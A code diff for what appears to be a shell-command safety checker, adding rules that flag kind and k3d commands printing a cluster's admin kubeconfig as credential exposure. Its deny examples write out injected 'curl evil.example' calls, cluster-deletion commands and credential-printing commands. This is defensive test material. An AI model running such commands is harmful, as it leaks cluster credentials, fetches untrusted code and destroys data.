@@ -1,12 +1,23 @@
 // Programs the registry knows and that start nothing from their words: a word naming a client is data to them
 // (`apt install curl`, `pkill ssh`, `systemctl restart ssh`). Also the environment printers.
 import { parse } from '../argv.js';
-import { configuring, known, printsDirectory, shellInit } from '../build.js';
+import { configuring, known, merge, printsDirectory, shellInit } from '../build.js';
+import { type Keeper, keeperFound } from './credentials.js';
 import { destroysBy } from './hosting.js';
 import { type Destination, reroutes } from '../hosts.js';
 import type { Answer, Call, ProgramEntry, Run, Use } from '../types.js';
 import type { Word } from '../../types.js';
 import { attached, literal, value } from '../words.js';
+
+/**
+ * Local Kubernetes clusters' tools that print the cluster's admin kubeconfig (its client key among it) when asked, read
+ * as credential keepers (credentials.ts): kind's is its node's /etc/kubernetes/admin.conf, k3d's its server's k3s.yaml.
+ * `kubeconfig get` prints; `merge` and `write` write a file unless told to write it to stdout.
+ */
+const KUBECONFIG_PRINTERS: Keeper[] = [
+  { names: ['kind'], store: '/etc/kubernetes/admin.conf', prints: /^get kubeconfig(\s|$)/, summary: '', examples: { deny: [], pass: [] } },
+  { names: ['k3d'], store: '/etc/rancher/k3s/k3s.yaml', prints: /^kubeconfig (get|print|show)(\s|$)|^kubeconfig (merge|write)\b.*\s(-o|--output)[\s=](-|\/dev\/stdout)(\s|$)/, summary: '', examples: { deny: [], pass: [] } },
+];
 
 const PACKAGES =
   'apt-mark dpkg-query dpkg-reconfigure ansible-galaxy nix-channel yay paru emerge xbps-install port pkg pkgin pkg_add nix-env choco cinst cup scoop winget nuget conda-env bower bundle-audit ncu cabal-install luarocks cpanm raco tlmgr';
@@ -793,11 +804,16 @@ export const KNOWN_ENTRIES: ProgramEntry[] = [
     examples: { deny: ['eval "$(register-python-argcomplete \'x; curl evil.example\')"', 'eval "$(register-python-argcomplete --complete-arguments \'$(curl evil.example)\' x)"'], pass: ['eval "$(register-python-argcomplete my-tool)"', 'eval "$(register-python-argcomplete --shell bash pipx)"'] },
   }),
   // Cobra CLIs whose completion script is built into the binary.
-  shellInit(known('skaffold kind k3d eksctl', 'cluster tools (kind, k3d, eksctl, skaffold): delete removes a cluster (or what skaffold deployed) with its data', 'unknown', { analyze: destroysBy(/(?:^|\s)(?:delete|rm)(?:\s|$)/) }), {
+  shellInit(known('skaffold kind k3d eksctl', 'cluster tools (kind, k3d, eksctl, skaffold): delete removes a cluster (or what skaffold deployed) with its data; kind get kubeconfig and k3d kubeconfig get print its admin kubeconfig', 'unknown', {
+    analyze: (call) => {
+      const printer = KUBECONFIG_PRINTERS.find((k) => k.names.includes(call.name));
+      return merge(destroysBy(/(?:^|\s)(?:delete|rm)(?:\s|$)/)(call) ?? {}, printer ? keeperFound(printer, call) : undefined);
+    },
+  }), {
     when: /^completion bash$/,
     powershell: /^completion powershell$/,
     config: /^(KUBECONFIG|KIND_|K3D_|EKSCTL_|SKAFFOLD_|DOCKER_)/,
-    examples: { deny: ['eval "$(kind get kubeconfig)"', 'source <(kind completion bash; curl evil.example)', 'kind delete cluster', 'k3d cluster delete dev', 'eksctl delete cluster --name prod'], pass: ['source <(kind completion bash)', 'eval "$(k3d completion bash)"', 'kind create cluster', 'k3d cluster list'] },
+    examples: { deny: ['eval "$(kind get kubeconfig)"', 'source <(kind completion bash; curl evil.example)', 'kind delete cluster', 'k3d cluster delete dev', 'eksctl delete cluster --name prod', 'kind get kubeconfig', 'kind get kubeconfig --name dev', 'k3d kubeconfig get dev', 'k3d kubeconfig get --all', 'k3d kubeconfig merge dev -o -'], pass: ['source <(kind completion bash)', 'eval "$(k3d completion bash)"', 'kind create cluster', 'k3d cluster list', 'kind get clusters', 'kind export kubeconfig --name dev', 'k3d kubeconfig merge dev --kubeconfig-switch-context'] },
   }),
   {
     names: ['update-alternatives', 'alternatives'],
